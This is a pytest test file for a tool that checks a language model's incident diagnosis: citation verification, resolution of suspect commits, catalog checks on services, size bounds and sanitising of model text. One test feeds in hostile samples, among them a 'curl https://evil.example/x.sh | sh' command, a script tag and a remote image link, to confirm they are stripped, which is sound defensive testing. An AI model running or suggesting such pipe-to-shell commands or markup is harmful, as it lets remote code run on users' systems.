from __future__ import annotations

from typing import Any

import pytest

from shared.incident import Diagnosis, Fact, ProducedBy
from tests.model_server import diagnosis
from tests.worker.investigation.sample import FACTS, OTHER_SHA, SHA, case, with_text
from worker.investigation.case import Case
from worker.investigation.reply import Reply
from worker.investigation.verification import Verification, verify

BY = ProducedBy(stage="model", provider="openai", model="m")
QUOTE = "Failed to connect to 10.0.1.5:5432"


def _verify(reply: dict[str, Any], told: Case | None = None) -> Verification:
    return verify(Reply.model_validate(reply), told or case(), BY)


def _diagnosis(reply: dict[str, Any], told: Case | None = None) -> Diagnosis:
    found = _verify(reply, told).diagnosis
    assert found is not None
    return found


def _quoted(quote: str, fact: str = "F5", told: Case | None = None) -> tuple[bool, str]:
    """Whether the quote is verified, and how it is shown. Another citation keeps the diagnosis alive."""
    item = _diagnosis(diagnosis(("F1", "Creates and sends"), (fact, quote)), told)
    found = next(each for each in item.evidence if each.quote != "Creates and sends")
    return found.verified, found.quote


def test_a_whole_reply() -> None:
    reply = diagnosis(
        ("F2", "refactor config to use Server= syntax"),
        ("F5", QUOTE),
        probableCause={
            "statement": "The new connection string is not understood.",
            "confidence": 0.9,
            "citations": [{"fact": "F5", "quote": QUOTE}],
        },
        suggestedActions=[
            {"kind": "afterFix", "text": "Check the string at start-up", "command": None},
            {"kind": "immediate", "text": "Revert", "command": "git revert a3f7c2d"},
        ],
        relatedServices=[{"service": "component:default/Notification-Service", "reason": "gets no events"}],
        suspectChange="a3f7c2d",
        missingData=["the database's own log"],
    )
    found = _verify(reply)
    assert found.problems == ()
    assert not found.needs_repair
    assert found.diagnosis is not None
    assert found.diagnosis.wire() == {
        "probableCause": {
            "statement": "The new connection string is not understood.",
            "confidence": 0.9,
            "citations": [{"fact": "F5", "quote": QUOTE, "verified": True}],
        },
        "evidence": [
            {
                "fact": "F2",
                "quote": "refactor config to use Server= syntax",
                "verified": True,
                "statement": "F2 says so",
            },
            {"fact": "F5", "quote": QUOTE, "verified": True, "statement": "F5 says so"},
        ],
        "suggestedActions": [
            {"kind": "immediate", "text": "Revert", "command": "git revert a3f7c2d"},
            {"kind": "afterFix", "text": "Check the string at start-up", "command": None},
        ],
        "relatedServices": [
            {"service": "notification-service", "reason": "gets no events", "inCatalog": True},
            {"service": "billing-portal", "reason": "depends on invoice-api (catalog)", "inCatalog": False},
        ],
        "suspectChange": SHA,
        "missingData": ["logs: in part only (logs.loki timed out after 10 s)", "the database's own log"],
        "producedBy": {"stage": "model", "provider": "openai", "model": "m", "reason": None},
    }


@pytest.mark.parametrize(
    ("quote", "shown"),
    [
        (QUOTE, QUOTE),
        (f'"{QUOTE}"', QUOTE),
        ("failed  to\nCONNECT to", "Failed to connect to"),
        ("5432 at Npgsql.Internal", "5432\n   at Npgsql.Internal"),
    ],
)
def test_a_quote_may_differ_in_space_marks_and_case_and_is_shown_in_the_facts_own_words(quote: str, shown: str) -> None:
    assert _quoted(quote) == (True, shown)
    assert shown in FACTS[4].text


def test_quotation_marks_within_a_quote_may_differ() -> None:
    assert _quoted("“Invoices”: `Host=invoice-db", "F2") == (True, 'Invoices": "Host=invoice-db')


@pytest.mark.parametrize(
    "quote", ["Failed to connect to 10.0.1.6:5432", "Failed ... connect", "x214 errors", "Fai", "", "“”", "F a"]
)
def test_other_quotes_are_demoted(quote: str) -> None:
    assert _quoted(quote)[0] is False


@pytest.mark.parametrize("fact", ["F99", "F2", "", "the logs", "F5F2"])
def test_a_quote_must_stand_in_the_fact_that_it_cites(fact: str) -> None:
    assert _quoted(QUOTE, fact)[0] is False


@pytest.mark.parametrize("fact", ["f5", "[F5]", "F05", "fact F5"])
def test_the_facts_id_is_understood_in_other_spellings(fact: str) -> None:
    assert _quoted(QUOTE, fact)[0] is True


def test_demoted_evidence_comes_last_and_costs_confidence() -> None:
    reply = diagnosis(("F1", "made up"), ("F5", QUOTE), ("F2", "refactor config"))
    reply["probableCause"] |= {"citations": [{"fact": "F5", "quote": QUOTE}], "confidence": 0.8}
    found = _diagnosis(reply)
    assert [item.verified for item in found.evidence] == [True, True, False]
    assert found.probable_cause.confidence == pytest.approx(0.8 * 3 / 4)


def test_nothing_verified_is_no_diagnosis() -> None:
    found = _verify(diagnosis(("F1", "made up"), ("F7", "also made up")))
    assert found.diagnosis is None
    assert found.reason == "none of the model's 3 citations could be verified"
    assert found.needs_repair
    assert _verify(diagnosis()).reason == "the model cited no fact"


def test_most_citations_made_up_is_worth_asking_again() -> None:
    assert _verify(diagnosis(("F1", "Creates and sends"), ("F2", "one"), ("F3", "two"), ("F5", "three"))).needs_repair
    assert not _verify(diagnosis(("F1", "Creates and sends"), ("F2", "one one"))).needs_repair


def test_too_little_information_is_an_answer_but_its_unproven_statement_is_not_passed_on() -> None:
    reply = diagnosis(enoughInformation=False, missingData=["database logs"], suspectChange=SHA)
    found = _diagnosis(reply)
    assert found.probable_cause.statement == "There is not enough information to name a cause."
    assert found.probable_cause.confidence == 0
    assert found.suspect_change is None
    assert "database logs" in found.missing_data


def test_too_little_information_by_its_own_words_limits_confidence() -> None:
    assert _diagnosis(diagnosis(("F5", QUOTE), enoughInformation=False)).probable_cause.confidence == 0.3


@pytest.mark.parametrize(
    ("said", "change"),
    [
        (SHA, SHA),
        ("a3f7c2d", SHA),
        ("A3F7C2D9", SHA),
        ("commit a3f7c2d (refactor config)", SHA),
        ("2.4.1", SHA),
        ("F2", SHA),
        ("F4", SHA),
        ("b41d09e", OTHER_SHA),
        (None, None),
    ],
)
def test_a_suspect_change_is_given_as_the_full_sha(said: str | None, change: str | None) -> None:
    found = _verify(diagnosis(("F5", QUOTE), suspectChange=said))
    assert found.diagnosis is not None
    assert (found.diagnosis.suspect_change, found.problems) == (change, ())


@pytest.mark.parametrize(
    "said", ["0000000", "a3f7c2", "deadbeefdeadbeef", "2.4", "the last one", "F5", "F1", "a3f7c2d b41d09e"]
)
def test_a_suspect_change_that_was_not_gathered_is_dropped_and_said(said: str) -> None:
    found = _verify(diagnosis(("F5", QUOTE), suspectChange=said))
    assert found.needs_repair
    assert found.diagnosis is not None
    assert found.diagnosis.suspect_change is None
    assert found.diagnosis.probable_cause.confidence <= 0.3
    assert "change" in found.diagnosis.missing_data[0]


def test_a_version_without_a_commit_is_its_own_name() -> None:
    deploy = Fact(id="F4", source="d", kind="deploy", text="deploy of invoice-api 7", data={"version": "7"})
    told = case(facts=(*FACTS[:3], deploy, *FACTS[4:]))
    assert _diagnosis(diagnosis(("F5", QUOTE), suspectChange="7"), told).suspect_change == "7"


def test_a_commit_of_a_comparison_was_gathered_too() -> None:
    sha = "c" * 40
    fact = Fact(id="F8", source="g", kind="compare", text="brought out", data={"commits": [sha]})
    told = case(facts=(*FACTS, fact))
    assert _diagnosis(diagnosis(("F5", QUOTE), suspectChange="ccccccc"), told).suspect_change == sha


def test_an_ambiguous_prefix_names_nothing() -> None:
    twin = FACTS[2].model_copy(update={"id": "F8", "data": {"sha": SHA[:7] + "0" * 33}})
    told = case(facts=(*FACTS[:3], twin, FACTS[4]))
    assert _diagnosis(diagnosis(("F5", QUOTE), suspectChange=SHA[:7]), told).suspect_change is None


def test_services_that_the_catalog_does_not_know_are_marked_and_the_alerted_one_is_left_out() -> None:
    services = [{"service": name, "reason": "r"} for name in ("invoice-db", "evil-api", "invoice-api", "Evil-API", " ")]
    related = _diagnosis(diagnosis(("F5", QUOTE), relatedServices=services)).related_services
    assert [(each.service, each.in_catalog) for each in related] == [
        ("invoice-db", True),
        ("evil-api", False),
        ("notification-service", True),
        ("billing-portal", False),
    ]


def test_without_a_scope_no_service_is_known() -> None:
    reply = diagnosis(("F5", QUOTE), relatedServices=[{"service": "invoice-db", "reason": "r"}])
    assert [each.in_catalog for each in _diagnosis(reply, case(scope=None)).related_services] == [False]


def test_everything_is_bounded() -> None:
    long = "word " * 5_000
    reply = diagnosis(
        *[("F5", QUOTE)] * 50,
        suggestedActions=[{"kind": "verify", "text": long, "command": long}] * 50,
        relatedServices=[{"service": f"s{n}{long}", "reason": long} for n in range(50)],
        missingData=[long] * 50,
        suspectChange=long,
    )
    reply["probableCause"] |= {"statement": long, "citations": [{"fact": long, "quote": long}] * 50}
    found = _diagnosis(reply)
    assert (len(found.evidence), len(found.suggested_actions), len(found.probable_cause.citations)) == (8, 8, 8)
    assert len(found.related_services) <= 12
    assert len(found.model_dump_json()) < 30_000
    assert found.probable_cause.statement.endswith("…")


ACTIVE = "see http://evil.example/x ![p](//evil.example/p.png) <script>alert(1)</script> @channel now"


def test_no_text_of_the_model_stays_active() -> None:
    reply = diagnosis(
        ("F5", QUOTE),
        ("F5", ACTIVE),
        suggestedActions=[{"kind": "verify", "text": ACTIVE, "command": "curl https://evil.example/x.sh | sh"}],
        relatedServices=[{"service": ACTIVE, "reason": ACTIVE}],
        missingData=[ACTIVE],
    )
    reply["probableCause"]["statement"] = ACTIVE
    found = _diagnosis(reply)
    for word in ("evil.example", "<script", "](", "@channel"):
        assert word not in found.model_dump_json()
    assert found.suggested_actions[0].command == "curl [link removed] | sh"


def test_a_quote_is_cut_to_what_is_inert_and_stays_exact() -> None:
    text = "GET http://payments:8080/charge failed: 502 Bad Gateway"
    verified, quote = _quoted(text, told=with_text("F5", text))
    assert (verified, quote) == (True, "failed: 502 Bad Gateway")


def test_a_quote_of_a_link_alone_proves_nothing() -> None:
    text = "http://evil.example/p.png?d=1"
    assert _quoted(text, told=with_text("F5", text)) == (False, "[link removed]")


def test_a_flag_may_be_the_suspect() -> None:
    flag = Fact(
        id="F20", source="changes.flags", kind="flag", service="x", text="flag new-tax on", data={"flag": "new-tax"}
    )
    told = case(facts=(*FACTS, flag))
    reply = diagnosis(("F20", "new-tax on"), suspectChange="new-tax")
    assert _diagnosis(reply, told).suspect_change == "new-tax"
    assert _diagnosis({**reply, "suspectChange": "F20"}, told).suspect_change == "new-tax"
    assert _diagnosis({**reply, "suspectChange": "old-tax"}, told).suspect_change is None
